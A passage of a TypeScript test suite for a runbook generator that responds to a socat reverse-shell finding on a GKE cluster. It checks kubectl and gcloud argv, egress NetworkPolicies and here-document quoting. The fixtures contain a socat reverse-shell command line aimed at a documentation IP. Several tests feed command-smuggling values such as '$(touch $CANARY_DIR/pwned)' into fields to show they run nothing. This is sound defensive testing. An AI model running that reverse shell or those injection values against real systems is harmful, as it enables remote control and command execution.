import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'yaml';
import type { ClusterRef, FindingLabel, ProcessInfo, SocatFinding, Workload } from '../../lib/finding/types.js';
import type { OwnerRef, PodSection } from '../../lib/gather/sections.js';
import { buildCommands, localFileFor } from '../../lib/report/commands.js';
import { c2EgressPolicy, denyAllEgressPolicy, isLabelKey, isLabelValue, type NetworkPolicyManifest } from '../../lib/report/network-policy.js';
import {
  buildRunbook,
  DEBUG_IMAGE,
  heredocTerminator,
  kubectlApplyHeredoc,
  selectorLabels,
  STEP_IDS,
  WARNING_ENFORCEMENT_UNKNOWN,
  WARNING_NOT_ENFORCED,
  type Runbook,
  type RunbookInput,
  type RunbookStep,
  type StepId,
} from '../../lib/report/runbook.js';
import type { C2Endpoint } from '../../lib/report/types.js';
import { isShellWritable } from '../../lib/shell/quote.js';
import { CANARY_PAYLOADS, runWithStandIns, type RunResult } from '../support/recording-shell.js';

// ---------------------------------------------------------------- fixtures

interface Facts {
  cluster?: Partial<ClusterRef> | null;
  workload?: Partial<Workload>;
  binary?: string | null;
  c2?: Partial<C2Endpoint>;
  egressCidr?: string | null;
  /** null: no pod section. */
  pod?: Partial<PodSection> | null;
  networkPolicyEnforced?: boolean | null;
  /** The finding's own kubernetes.pods[].labels for the pod. */
  podLabels?: FindingLabel[] | null;
}

const BASE_LABELS = { app: 'api', tier: 'backend', 'pod-template-hash': '7d9f5' };
const BASE_SELECTOR = { app: 'api', tier: 'backend' };
const DEPLOYMENT_OWNERS: OwnerRef[] = [
  { kind: 'ReplicaSet', name: 'api-7d9f5', labels: { app: 'api', 'pod-template-hash': '7d9f5' } },
  { kind: 'Deployment', name: 'api', labels: { app: 'api' } },
];

function makeFinding(o: Facts = {}): SocatFinding {
  const cluster: ClusterRef | null =
    o.cluster === null
      ? null
      : {
          project: 'shop-prod-123',
          location: 'us-central1-a',
          name: 'prod-cluster',
          locationType: 'zonal',
          resourceName: '//container.googleapis.com/projects/shop-prod-123/locations/us-central1-a/clusters/prod-cluster',
          ...o.cluster,
        };
  const socat: ProcessInfo = {
    name: 'socat',
    binary: o.binary === undefined ? '/usr/bin/socat' : o.binary,
    args: ['socat', 'TCP:203.0.113.7:4444', 'EXEC:/bin/sh'],
    argsTruncated: false,
    pid: 4242,
    parentPid: 1,
  };
  return {
    name: 'organizations/1/sources/2/locations/global/findings/abc',
    category: 'Execution: Socat Reverse Shell Detected',
    state: 'ACTIVE',
    severity: 'HIGH',
    eventTime: '2025-08-07T10:00:00Z',
    createTime: '2025-08-07T10:00:01Z',
    organization: '1',
    projectNumber: null,
    projectDisplayName: 'Shop Prod',
    resourceName: cluster?.resourceName ?? null,
    cluster,
    workload: { namespace: 'payments', pod: 'api-7d9f5-x2x4z', container: 'app', image: 'gcr.io/x/api:1', node: 'gke-node-1', ...o.workload },
    podLabels: o.podLabels ?? null,
    processes: [socat],
    socat,
    securityMarks: {},
    mitre: null,
    notificationConfigName: null,
  };
}

function makeInput(o: Facts = {}): RunbookInput {
  const finding = makeFinding(o);
  const pod: PodSection | null =
    o.pod === null
      ? null
      : {
          source: 'kubernetes',
          namespace: finding.workload.namespace ?? 'payments',
          name: finding.workload.pod ?? 'api-7d9f5-x2x4z',
          phase: 'Running',
          startTime: '2025-08-07T09:00:00Z',
          labels: { ...BASE_LABELS },
          annotations: {},
          serviceAccount: 'default',
          node: finding.workload.node,
          containers: [{ name: 'app', image: 'gcr.io/x/api:1', imageDigest: null, restartCount: 0, ready: true }],
          redFlags: [],
          owners: DEPLOYMENT_OWNERS,
          consoleUrl: null,
          ...o.pod,
        };
  return {
    finding,
    c2: { role: 'reverse', transport: 'tcp', host: '203.0.113.7', port: 4444, ipVersion: 4, program: '/bin/sh', pty: false, ...o.c2 },
    egressCidr: o.egressCidr ?? null,
    pod,
    networkPolicyEnforced: o.networkPolicyEnforced === undefined ? true : o.networkPolicyEnforced,
  };
}

function stepOf(runbook: Runbook, id: StepId): RunbookStep {
  const step = runbook.steps.find((s) => s.id === id);
  if (step === undefined) throw new Error(`no step ${id}`);
  return step;
}

function commandOf(runbook: Runbook, id: StepId): string | null {
  return stepOf(runbook, id).command;
}

/** A test-title form of a value: JSON with every non-printable-ASCII character escaped. */
function show(value: string): string {
  return JSON.stringify(value).replace(/[^\x20-\x7e]/gu, (ch) => [...ch].map((c) => `\\u{${c.codePointAt(0)!.toString(16)}}`).join(''));
}

/** Shape rules every runbook must follow, whatever the input. */
function expectWellFormed(runbook: Runbook): void {
  expect(runbook.steps.map((s) => s.id)).toEqual([...STEP_IDS]);
  for (const s of runbook.steps) {
    expect(s.title.length).toBeGreaterThan(0);
    expect(typeof s.note).toBe('string');
    expect(s.note!.length).toBeGreaterThan(0);
    expect(s.disruptive).toBe(['block_c2_egress', 'block_all_egress', 'cordon', 'delete_pod', 'scale_to_zero'].includes(s.id));
    // Notes are plain text: no raw controls, and never an input value.
    expect(s.note).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(s.note).not.toContain('pwned');
    if (s.command !== null) expect(s.command.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  }
}

// ---------------------------------------------------------------- running commands

/**
 * The harness records argv but not stdin. For the apply steps this prefix
 * shadows kubectl with a bash function that reads its stdin, calls the real
 * stand-in with the same "$@", and hands the stdin to a second stand-in as
 * its only argument; the '.' keeps command substitution from eating trailing
 * newlines. The command text itself is run unchanged.
 */
const CAPTURE_STDIN = 'kubectl() { local stdin; stdin=$(cat; printf .); command kubectl "$@"; stdin-record "${stdin%.}"; }\n';

function clean(result: RunResult): void {
  expect(result.canaryFiles).toEqual([]);
  expect(result.stderr).toBe('');
  expect(result.exitCode).toBe(0);
}

async function argvOf(command: string, program: 'kubectl' | 'gcloud' = 'kubectl'): Promise<string[]> {
  const result = await runWithStandIns(command);
  clean(result);
  expect(result.invocations).toHaveLength(1);
  expect(result.invocations[0]!.program).toBe(program);
  return result.invocations[0]!.argv;
}

async function applyOf(command: string): Promise<{ argv: string[]; stdin: string }> {
  const result = await runWithStandIns(CAPTURE_STDIN + command, { programs: ['kubectl', 'gcloud', 'stdin-record'] });
  clean(result);
  expect(result.invocations.map((i) => i.program)).toEqual(['kubectl', 'stdin-record']);
  expect(result.invocations[1]!.argv).toHaveLength(1);
  return { argv: result.invocations[0]!.argv, stdin: result.invocations[1]!.argv[0]! };
}

/** Runs at most `limit` promises at once; bash runs are cheap but not free. */
async function inBatches<T>(items: readonly T[], limit: number, fn: (item: T) => Promise<void>): Promise<void> {
  for (let i = 0; i < items.length; i += limit) await Promise.all(items.slice(i, i + limit).map(fn));
}

// ---------------------------------------------------------------- intended argv, written from the brief

function expectedCp(ns: string, pod: string, container: string, binary: string): string[] {
  if (!ns.includes(':') && !ns.startsWith('-') && !pod.startsWith('-')) return ['cp', `${ns}/${pod}:${binary}`, '-c', container, localFileFor(binary)];
  return ['cp', `--namespace=${ns}`, '-c', container, '--', `${pod}:${binary}`, localFileFor(binary)];
}

function expectedExec(ns: string, pod: string, container: string): string[] {
  return ['exec', `--namespace=${ns}`, '-ti', pod.startsWith('-') ? `pod/${pod}` : pod, '-c', container, '--', '/bin/sh'];
}

function expectedDebug(ns: string, pod: string, container: string): string[] {
  return ['debug', `--namespace=${ns}`, '-it', pod.startsWith('-') ? `pod/${pod}` : pod, `--image=${DEBUG_IMAGE}`, `--target=${container}`, '--profile=general', '--', 'sh'];
}

function expectedDelete(ns: string, pod: string): string[] {
  return ['delete', 'pod', `--namespace=${ns}`, ...(pod.startsWith('-') ? ['--'] : []), pod];
}

function expectedCordon(node: string): string[] {
  return ['cordon', ...(node.startsWith('-') ? ['--'] : []), node];
}

/** Checks one applied document against what the policy must say. */
function expectPolicy(stdin: string, kind: 'block' | 'deny', ns: string, selector: Record<string, string>, c2Cidr?: string): void {
  const expected =
    kind === 'block'
      ? c2EgressPolicy({ namespace: ns, podLabels: selector, c2Cidr: c2Cidr! })
      : denyAllEgressPolicy({ namespace: ns, podLabels: selector });
  expect(stdin).toBe(expected.yaml);
  for (const version of ['1.1', '1.2'] as const) {
    const doc = parse(stdin, { version }) as NetworkPolicyManifest;
    expect(doc.metadata.namespace).toBe(ns);
    expect(doc.spec.podSelector.matchLabels).toEqual(selector);
    expect(doc).toEqual(expected.manifest);
  }
}

// ---------------------------------------------------------------- tests

describe('buildRunbook: the playbook case', () => {
  const input = makeInput();
  const runbook = buildRunbook(input);

  it('has every step, in order, and flags the containment steps as disruptive', () => {
    expectWellFormed(runbook);
    expect(runbook.steps.filter((s) => s.command === null).map((s) => s.id)).toEqual([]);
  });

  it('reuses the Step 5 commands of lib/report/commands.ts', () => {
    const c = buildCommands(input.finding);
    expect(commandOf(runbook, 'get_credentials')).toBe(c.getCredentials);
    expect(commandOf(runbook, 'copy_binary')).toBe(c.copyBinary);
    expect(commandOf(runbook, 'exec')).toBe(c.exec);
  });

  it('writes the one-line commands as expected', () => {
    expect(commandOf(runbook, 'debug')).toBe('kubectl debug --namespace=payments -it api-7d9f5-x2x4z --image=busybox:1.36 --target=app --profile=general -- sh');
    expect(commandOf(runbook, 'cordon')).toBe('kubectl cordon gke-node-1');
    expect(commandOf(runbook, 'delete_pod')).toBe('kubectl delete pod --namespace=payments api-7d9f5-x2x4z');
    expect(commandOf(runbook, 'scale_to_zero')).toBe('kubectl scale --namespace=payments deployment.apps/api --replicas=0');
  });

  it('applies the policies through a quoted here-document', () => {
    const block = c2EgressPolicy({ namespace: 'payments', podLabels: BASE_SELECTOR, c2Cidr: '203.0.113.7/32' });
    expect(commandOf(runbook, 'block_c2_egress')).toBe(`kubectl apply -f - <<'EOF'\n${block.yaml}EOF`);
    const deny = denyAllEgressPolicy({ namespace: 'payments', podLabels: BASE_SELECTOR });
    expect(commandOf(runbook, 'block_all_egress')).toBe(`kubectl apply -f - <<'EOF'\n${deny.yaml}EOF`);
  });

  it('explains the additive nature of NetworkPolicies in both policy notes', () => {
    expect(stepOf(runbook, 'block_c2_egress').note).toMatch(/additive/);
    expect(stepOf(runbook, 'block_c2_egress').note).toMatch(/already allows egress to the C2, this one cannot remove it/);
    expect(stepOf(runbook, 'block_c2_egress').note).toContain('203.0.113.7/32');
    expect(stepOf(runbook, 'block_all_egress').note).toMatch(/additive/);
  });

  it('runs every command through bash as exactly the intended argv (and stdin)', async () => {
    expect(await argvOf(commandOf(runbook, 'get_credentials')!, 'gcloud')).toEqual([
      'container', 'clusters', 'get-credentials', 'prod-cluster', '--zone', 'us-central1-a', '--project', 'shop-prod-123',
    ]);
    expect(await argvOf(commandOf(runbook, 'copy_binary')!)).toEqual(['cp', 'payments/api-7d9f5-x2x4z:/usr/bin/socat', '-c', 'app', './socat-evidence-socat']);
    expect(await argvOf(commandOf(runbook, 'exec')!)).toEqual(['exec', '--namespace=payments', '-ti', 'api-7d9f5-x2x4z', '-c', 'app', '--', '/bin/sh']);
    expect(await argvOf(commandOf(runbook, 'debug')!)).toEqual([
      'debug', '--namespace=payments', '-it', 'api-7d9f5-x2x4z', '--image=busybox:1.36', '--target=app', '--profile=general', '--', 'sh',
    ]);
    expect(await argvOf(commandOf(runbook, 'cordon')!)).toEqual(['cordon', 'gke-node-1']);
    expect(await argvOf(commandOf(runbook, 'delete_pod')!)).toEqual(['delete', 'pod', '--namespace=payments', 'api-7d9f5-x2x4z']);
    expect(await argvOf(commandOf(runbook, 'scale_to_zero')!)).toEqual(['scale', '--namespace=payments', 'deployment.apps/api', '--replicas=0']);

    const block = await applyOf(commandOf(runbook, 'block_c2_egress')!);
    expect(block.argv).toEqual(['apply', '-f', '-']);
    expectPolicy(block.stdin, 'block', 'payments', BASE_SELECTOR, '203.0.113.7/32');
    const deny = await applyOf(commandOf(runbook, 'block_all_egress')!);
    expect(deny.argv).toEqual(['apply', '-f', '-']);
    expectPolicy(deny.stdin, 'deny', 'payments', BASE_SELECTOR);
  });

  it('also runs the apply commands against the plain stand-in (no stdin capture)', async () => {
    for (const id of ['block_c2_egress', 'block_all_egress'] as const) {
      expect(await argvOf(commandOf(runbook, id)!)).toEqual(['apply', '-f', '-']);
    }
  });

  it('the stdin capture itself is faithful: trailing newlines, quotes and $ survive', async () => {
    const text = `a: "$(x)" '\`y\`'\n\n\n`;
    const { argv, stdin } = await applyOf(`kubectl apply -f - <<'EOF'\n${text}EOF`);
    expect(argv).toEqual(['apply', '-f', '-']);
    expect(stdin).toBe(text);
  });
});

describe('get_credentials: zonal and regional', () => {
  it.each([
    ['zonal', 'us-central1-a', '--zone'],
    ['regional', 'us-central1', '--region'],
  ] as const)('%s cluster uses %s', async (locationType, location, flag) => {
    const runbook = buildRunbook(makeInput({ cluster: { locationType, location } }));
    expect(await argvOf(commandOf(runbook, 'get_credentials')!, 'gcloud')).toEqual([
      'container', 'clusters', 'get-credentials', 'prod-cluster', flag, location, '--project', 'shop-prod-123',
    ]);
  });
});

describe('block_c2_egress: the C2 address', () => {
  it.each([
    ['IPv4 from c2.host', { c2: { host: '203.0.113.7', ipVersion: 4 as const } }, '203.0.113.7/32', 4],
    ['IPv6 from c2.host', { c2: { host: '2001:db8::7', ipVersion: 6 as const } }, '2001:db8::7/128', 6],
    ['IPv6 written long', { c2: { host: '2001:DB8:0::7', ipVersion: 6 as const } }, '2001:db8::7/128', 6],
    ['inet_aton form socat would accept', { c2: { host: '0xcb.0.113.7', ipVersion: 4 as const } }, '203.0.113.7/32', 4],
    ['egressCidr given, IPv4', { egressCidr: '198.51.100.9/32', c2: { host: 'c2.example', ipVersion: null } }, '198.51.100.9/32', 4],
    ['egressCidr given, IPv6', { egressCidr: '2001:db8::9/128' }, '2001:db8::9/128', 6],
    ['egressCidr given for a proxied C2', { egressCidr: '198.51.100.9', c2: { transport: 'socks' as const } }, '198.51.100.9/32', 4],
  ])('%s', async (_name, facts, cidr, family) => {
    const runbook = buildRunbook(makeInput(facts));
    const command = commandOf(runbook, 'block_c2_egress');
    expect(command).not.toBeNull();
    const { argv, stdin } = await applyOf(command!);
    expect(argv).toEqual(['apply', '-f', '-']);
    expectPolicy(stdin, 'block', 'payments', BASE_SELECTOR, cidr);
    const doc = parse(stdin, { version: '1.1' }) as NetworkPolicyManifest;
    const [v4, v6] = doc.spec.egress![0]!.to!;
    expect(family === 4 ? v4!.ipBlock : v6!.ipBlock).toEqual({ cidr: family === 4 ? '0.0.0.0/0' : '::/0', except: [cidr] });
    expect(family === 4 ? v6!.ipBlock : v4!.ipBlock).toEqual({ cidr: family === 4 ? '::/0' : '0.0.0.0/0' });
    expect(stepOf(runbook, 'block_c2_egress').note).toContain(cidr);
  });

  it.each([
    ['a host name', { c2: { host: 'c2.example.com', ipVersion: 6 as const } }, /host name/],
    ['no host', { c2: { host: null } }, /no C2 host/],
    ['a bind shell', { c2: { role: 'bind' as const, host: '0.0.0.0' } }, /bind shell/],
    ['a SOCKS proxy without egressCidr', { c2: { transport: 'socks' as const } }, /proxy/],
    ['an HTTP proxy without egressCidr', { c2: { transport: 'proxy' as const } }, /proxy/],
    ['a UNIX socket', { c2: { transport: 'unix' as const, host: null } }, /UNIX socket/],
    ['loopback', { c2: { host: '127.0.0.1' } }, /loopback/],
    ['IPv6 loopback', { c2: { host: '::1' } }, /loopback/],
    ['unspecified', { c2: { host: '0.0.0.0' } }, /unspecified/],
    ['zoned IPv6', { c2: { host: 'fe80::1%eth0' } }, /host name/],
    ['egressCidr wider than one address', { egressCidr: '203.0.113.0/24' }, /not a single/],
    ['egressCidr that is not a CIDR', { egressCidr: 'evil; touch $CANARY_DIR/pwned' }, /not a single/],
  ])('%s: no command, a note', (_name, facts, note) => {
    const runbook = buildRunbook(makeInput(facts));
    expectWellFormed(runbook);
    expect(commandOf(runbook, 'block_c2_egress')).toBeNull();
    expect(stepOf(runbook, 'block_c2_egress').note).toMatch(note);
    // The deny-all policy does not depend on the address.
    expect(commandOf(runbook, 'block_all_egress')).not.toBeNull();
  });

  it('notes that a bind shell is not cut by the deny-all egress policy either', () => {
    const runbook = buildRunbook(makeInput({ c2: { role: 'bind', host: null } }));
    expect(stepOf(runbook, 'block_all_egress').note).toMatch(/bind shell/);
    expect(stepOf(buildRunbook(makeInput()), 'block_all_egress').note).not.toMatch(/bind shell/);
  });
});

describe('policy selector', () => {
  it('drops per-revision and per-replica labels', () => {
    expect(
      selectorLabels(
        {
          app: 'web',
          'pod-template-hash': 'a',
          'controller-revision-hash': 'b',
          'statefulset.kubernetes.io/pod-name': 'web-0',
          'apps.kubernetes.io/pod-index': '0',
          'job-name': 'j',
        },
        'StatefulSet',
      ),
    ).toEqual({ app: 'web', 'job-name': 'j' });
  });

  it('drops per-Job labels only when a CronJob starts the Jobs', () => {
    const labels = { app: 'batch', 'job-name': 'cj-123', 'controller-uid': 'u', 'batch.kubernetes.io/job-name': 'cj-123', 'batch.kubernetes.io/controller-uid': 'u' };
    expect(selectorLabels(labels, 'CronJob')).toEqual({ app: 'batch' });
    expect(selectorLabels(labels, 'Job')).toEqual(labels);
  });

  it.each([
    ['no pod section', { pod: null }],
    ['a pod known only from the finding', { pod: { source: 'finding' as const, labels: {} } }],
    ['only per-revision labels', { pod: { labels: { 'pod-template-hash': 'x', 'controller-revision-hash': 'y' } } }],
    ['no labels', { pod: { labels: {} } }],
    ['a label with a NUL (no argument or Kubernetes label can carry it)', { pod: { labels: { app: 'a\0b' } } }],
    ['a label with a lone surrogate', { pod: { labels: { app: 'a\uD800' } } }],
    ['a label value with a bidi override (the YAML would show it raw)', { pod: { labels: { app: 'a\u202Eb' } } }],
    ['a label key with a zero-width space', { pod: { labels: { 'a\u200Bpp': 'x' } } }],
    ['a pod section about another pod', { pod: { name: 'other-pod' } }],
  ])('%s: both policy steps are null with a note', (_name, facts) => {
    const runbook = buildRunbook(makeInput(facts));
    expectWellFormed(runbook);
    expect(commandOf(runbook, 'block_c2_egress')).toBeNull();
    expect(commandOf(runbook, 'block_all_egress')).toBeNull();
  });

  it('keeps an empty label value (valid in Kubernetes) in the selector', async () => {
    const runbook = buildRunbook(makeInput({ pod: { labels: { app: 'api', canary: '' } } }));
    const { stdin } = await applyOf(commandOf(runbook, 'block_all_egress')!);
    expectPolicy(stdin, 'deny', 'payments', { app: 'api', canary: '' });
  });
});

describe('NetworkPolicy enforcement warnings', () => {
  it.each([
    [true, null],
    [false, WARNING_NOT_ENFORCED],
    [null, WARNING_ENFORCEMENT_UNKNOWN],
  ] as const)('networkPolicyEnforced %s', (enforced, warning) => {
    const runbook = buildRunbook(makeInput({ networkPolicyEnforced: enforced }));
    for (const s of runbook.steps) {
      const policyStep = s.id === 'block_c2_egress' || s.id === 'block_all_egress';
      expect(s.warning ?? null).toBe(policyStep ? warning : null);
    }
    // Not enforced or unknown still gives the commands: enabling enforcement makes them work.
    expect(commandOf(runbook, 'block_c2_egress')).not.toBeNull();
  });

  it('says what to do', () => {
    expect(WARNING_NOT_ENFORCED).toBe('the cluster does not enforce NetworkPolicy: enable Dataplane V2 or network policy enforcement first');
    expect(WARNING_ENFORCEMENT_UNKNOWN).toMatch(/^could not tell whether/);
  });
});

describe('scale_to_zero: by top-level owner', () => {
  const owners = (...chain: Array<[string, string]>): OwnerRef[] => chain.map(([kind, name]) => ({ kind, name, labels: {} }));

  it.each([
    ['Deployment', owners(['ReplicaSet', 'api-7d9f5'], ['Deployment', 'api']), ['scale', '--namespace=payments', 'deployment.apps/api', '--replicas=0']],
    ['StatefulSet', owners(['StatefulSet', 'db']), ['scale', '--namespace=payments', 'statefulset.apps/db', '--replicas=0']],
    ['ReplicationController', owners(['ReplicationController', 'rc']), ['scale', '--namespace=payments', 'replicationcontroller/rc', '--replicas=0']],
    ['CronJob', owners(['Job', 'cj-29000'], ['CronJob', 'cj']), ['patch', '--namespace=payments', 'cronjob.batch/cj', '--type=merge', '-p', '{"spec":{"suspend":true}}']],
    ['Job', owners(['Job', 'once']), ['patch', '--namespace=payments', 'job.batch/once', '--type=merge', '-p', '{"spec":{"suspend":true}}']],
    ['leading-dash name', owners(['Deployment', '-api']), ['scale', '--namespace=payments', 'deployment.apps/-api', '--replicas=0']],
  ])('%s', async (_name, chain, argv) => {
    const runbook = buildRunbook(makeInput({ pod: { owners: chain, labels: { app: 'api' } } }));
    expect(await argvOf(commandOf(runbook, 'scale_to_zero')!)).toEqual(argv);
  });

  it('a bare ReplicaSet (no pod-template-hash) is scaled', async () => {
    const runbook = buildRunbook(makeInput({ pod: { owners: owners(['ReplicaSet', 'rs']), labels: { app: 'api' } } }));
    expect(await argvOf(commandOf(runbook, 'scale_to_zero')!)).toEqual(['scale', '--namespace=payments', 'replicaset.apps/rs', '--replicas=0']);
  });

  it.each([
    ['DaemonSet', { owners: owners(['DaemonSet', 'agent']) }, /DaemonSet cannot be scaled/],
    ['no owner', { owners: [] }, /no controller/],
    ['pod not read from the cluster', { source: 'finding' as const, owners: [] }, /owner is unknown/],
    ['static pod', { owners: owners(['Node', 'gke-node-1']) }, /static pod/],
    ['custom kind', { owners: owners(['Rollout', 'api']) }, /not a Deployment/],
    ['ReplicaSet whose Deployment could not be read', { owners: owners(['ReplicaSet', 'api-7d9f5']), labels: { app: 'api', 'pod-template-hash': '7d9f5' } }, /Deployment/],
    ['owner name with /', { owners: owners(['Deployment', 'a/b']) }, /cannot be passed/],
    ['owner name with NUL', { owners: owners(['Deployment', 'a\0b']) }, /cannot be passed/],
  ])('%s: no command, a note', (_name, pod, note) => {
    const runbook = buildRunbook(makeInput({ pod }));
    expectWellFormed(runbook);
    expect(commandOf(runbook, 'scale_to_zero')).toBeNull();
    expect(stepOf(runbook, 'scale_to_zero').note).toMatch(note);
  });

  it('no pod section: owner unknown', () => {
    const runbook = buildRunbook(makeInput({ pod: null }));
    expect(commandOf(runbook, 'scale_to_zero')).toBeNull();
    expect(stepOf(runbook, 'scale_to_zero').note).toMatch(/owner is unknown/);
  });
});

describe('missing facts give null commands with notes', () => {
  type Row = [name: string, facts: Facts, nullSteps: StepId[]];
  const rows: Row[] = [
    ['no cluster', { cluster: null }, ['get_credentials']],
    ['no namespace', { workload: { namespace: null }, pod: null }, ['copy_binary', 'exec', 'debug', 'block_c2_egress', 'block_all_egress', 'delete_pod', 'scale_to_zero']],
    ['no pod', { workload: { pod: null }, pod: null }, ['copy_binary', 'exec', 'debug', 'block_c2_egress', 'block_all_egress', 'delete_pod', 'scale_to_zero']],
    ['no node anywhere', { workload: { node: null }, pod: { node: null } }, ['cordon']],
    ['no binary', { binary: null }, ['copy_binary']],
    ['no pod section', { pod: null }, ['block_c2_egress', 'block_all_egress', 'scale_to_zero']],
    ['pod and namespace with /', { workload: { pod: 'a/b', namespace: 'n/s' }, pod: null }, ['copy_binary', 'exec', 'debug', 'block_c2_egress', 'block_all_egress', 'delete_pod', 'scale_to_zero']],
    ['node with /', { workload: { node: 'a/b' } }, ['cordon']],
  ];

  it.each(rows)('%s', (_name, facts, nullSteps) => {
    const runbook = buildRunbook(makeInput(facts));
    expectWellFormed(runbook);
    expect(runbook.steps.filter((s) => s.command === null).map((s) => s.id)).toEqual(nullSteps);
  });

  it('takes the node from the pod section when the finding lacks it', async () => {
    const runbook = buildRunbook(makeInput({ workload: { node: null }, pod: { node: 'gke-node-9' } }));
    expect(await argvOf(commandOf(runbook, 'cordon')!)).toEqual(['cordon', 'gke-node-9']);
  });

  it("debug targets the pod's only container when the finding does not name one, and refuses to guess among several", async () => {
    const one = buildRunbook(makeInput({ workload: { container: null } }));
    expect(await argvOf(commandOf(one, 'debug')!)).toEqual(expectedDebug('payments', 'api-7d9f5-x2x4z', 'app'));
    const container = (name: string): PodSection['containers'][number] => ({ name, image: null, imageDigest: null, restartCount: null, ready: null });
    const two = buildRunbook(makeInput({ workload: { container: null }, pod: { containers: [container('app'), container('sidecar')] } }));
    expect(commandOf(two, 'debug')).toBeNull();
    expect(stepOf(two, 'debug').note).toMatch(/--target/);
    const none = buildRunbook(makeInput({ workload: { container: null }, pod: null }));
    expect(commandOf(none, 'debug')).toBeNull();
  });
});

describe('heredoc', () => {
  it('picks a terminator that is no line of the document', () => {
    expect(heredocTerminator('a: 1\n')).toBe('EOF');
    expect(heredocTerminator('EOF\n')).toBe('EOF_SOCAT_TRIAGE');
    expect(heredocTerminator('x\nEOF\nEOF_SOCAT_TRIAGE\n')).toBe('EOF_SOCAT_TRIAGE_1');
    expect(heredocTerminator(' EOF\nEOF \n')).toBe('EOF');
    const all = ['EOF', 'EOF_SOCAT_TRIAGE', ...Array.from({ length: 8 }, (_, i) => `EOF_SOCAT_TRIAGE_${i + 1}`)].join('\n');
    expect(heredocTerminator(`${all}\n`)).toBeNull();
    expect(kubectlApplyHeredoc(`${all}\n`)).toBeNull();
  });

  it('ends the here-document exactly where the text ends, even when the text holds a line "EOF"', async () => {
    const text = 'a: 1\nEOF\n$(touch $CANARY_DIR/pwned)\nEOF_SOCAT_TRIAGE_1\n';
    const command = kubectlApplyHeredoc(text)!;
    expect(command.startsWith("kubectl apply -f - <<'EOF_SOCAT_TRIAGE'\n")).toBe(true);
    const { stdin } = await applyOf(command);
    expect(stdin).toBe(text);
  });

  it('refuses text without a final newline or with hidden characters', () => {
    expect(kubectlApplyHeredoc('a: 1')).toBeNull();
    expect(kubectlApplyHeredoc('a: "\u202E"\n')).toBeNull();
    expect(kubectlApplyHeredoc('a: "\\t"\n')).not.toBeNull();
    // A raw tab would trigger completion when pasted into an interactive shell.
    expect(kubectlApplyHeredoc('a:\t1\n')).toBeNull();
  });

  it('survives pasting into an interactive bash with history expansion on', async () => {
    const labels = { app: '!!', 'x!-1': '!$', q: "it's !!", d: '"!!"' };
    const runbook = buildRunbook(makeInput({ pod: { labels } }));
    const command = commandOf(runbook, 'block_all_egress')!;
    const script = ['set -H', 'true', CAPTURE_STDIN.trimEnd(), command, 'exit 0', ''].join('\n');
    const result = await runWithStandIns('bash --norc -i', { programs: ['kubectl', 'stdin-record'], stdin: script });
    expect(result.canaryFiles).toEqual([]);
    expect(result.invocations.map((i) => i.program)).toEqual(['kubectl', 'stdin-record']);
    expect(result.invocations[0]!.argv).toEqual(['apply', '-f', '-']);
    expectPolicy(result.invocations[1]!.argv[0]!, 'deny', 'payments', labels);
  });
});

describe('hostile values reach kubectl exactly and run nothing else', () => {
  const payloads = [...CANARY_PAYLOADS, '-evil', '--', 'a:b', '-n=x', 'on', 'EOF', '\nEOF\n', "'EOF'"];
  type Slot = 'namespace' | 'pod' | 'container' | 'node' | 'labelValue' | 'labelKey' | 'owner';
  const slots: Slot[] = ['namespace', 'pod', 'container', 'node', 'labelValue', 'labelKey', 'owner'];
  const cases = slots.flatMap((slot) => payloads.map((p): [Slot, string, string] => [slot, show(p), p]));

  /** Characters the YAML library writes raw, which the runbook refuses to show. */
  const SHOWN_RAW = /[\x7f-\x9f\p{Cf}\u2028\u2029]/u;

  it.each(cases)('%s = %s', async (slot, _title, payload) => {
    const workload = { namespace: 'payments', pod: 'api-7d9f5-x2x4z', container: 'app', node: 'gke-node-1' };
    let labels: Record<string, string> = { app: 'api' };
    let ownerName = 'api';
    if (slot === 'namespace' || slot === 'pod' || slot === 'container' || slot === 'node') workload[slot] = payload;
    if (slot === 'labelValue') labels = { app: payload };
    if (slot === 'labelKey') labels = Object.fromEntries([[payload, 'api']]);
    if (slot === 'owner') ownerName = payload;

    const runbook = buildRunbook(
      makeInput({ workload, pod: { labels, owners: [{ kind: 'Deployment', name: ownerName, labels: {} }] } }),
    );
    expectWellFormed(runbook);
    const { namespace: ns, pod, container, node } = workload;
    const binary = '/usr/bin/socat';

    // A control or invisible character in a value refuses every step that would carry it (lib/shell/quote.ts).
    const hidden = (...values: string[]) => !values.every(isShellWritable);
    const podSteps = pod.includes('/') || ns.includes('/') || hidden(ns, pod, container);
    const expected: Partial<Record<StepId, string[] | 'apply' | null>> = {
      copy_binary: podSteps || pod.includes(':') ? null : expectedCp(ns, pod, container, binary),
      exec: podSteps ? null : expectedExec(ns, pod, container),
      debug: podSteps ? null : expectedDebug(ns, pod, container),
      block_c2_egress: ns.includes('/') || hidden(ns) || SHOWN_RAW.test(ns + Object.keys(labels).join('') + Object.values(labels).join('')) ? null : 'apply',
      block_all_egress: ns.includes('/') || hidden(ns) || SHOWN_RAW.test(ns + Object.keys(labels).join('') + Object.values(labels).join('')) ? null : 'apply',
      cordon: node.includes('/') || hidden(node) ? null : expectedCordon(node),
      delete_pod: pod.includes('/') || ns.includes('/') || hidden(ns, pod) ? null : expectedDelete(ns, pod),
      scale_to_zero: ownerName.includes('/') || ns.includes('/') || hidden(ns, ownerName) ? null : ['scale', `--namespace=${ns}`, `deployment.apps/${ownerName}`, '--replicas=0'],
    };

    const runs: Array<Promise<void>> = [];
    for (const [id, want] of Object.entries(expected) as Array<[StepId, string[] | 'apply' | null]>) {
      const command = commandOf(runbook, id);
      if (want === null) {
        expect([id, command]).toEqual([id, null]);
        continue;
      }
      expect([id, command === null]).toEqual([id, false]);
      runs.push(
        (async () => {
          if (want === 'apply') {
            const { argv, stdin } = await applyOf(command!);
            expect(argv).toEqual(['apply', '-f', '-']);
            if (id === 'block_c2_egress') expectPolicy(stdin, 'block', ns, labels, '203.0.113.7/32');
            else expectPolicy(stdin, 'deny', ns, labels);
          } else {
            expect([id, await argvOf(command!)]).toEqual([id, want]);
          }
        })(),
      );
    }
    await Promise.all(runs);
    // Not vacuous: whatever the payload, the cordon of a plain node runs.
    expect(runs.length).toBeGreaterThanOrEqual(1);
  });

  it('a binary path payload reaches kubectl cp exactly', async () => {
    await inBatches(CANARY_PAYLOADS, 8, async (p) => {
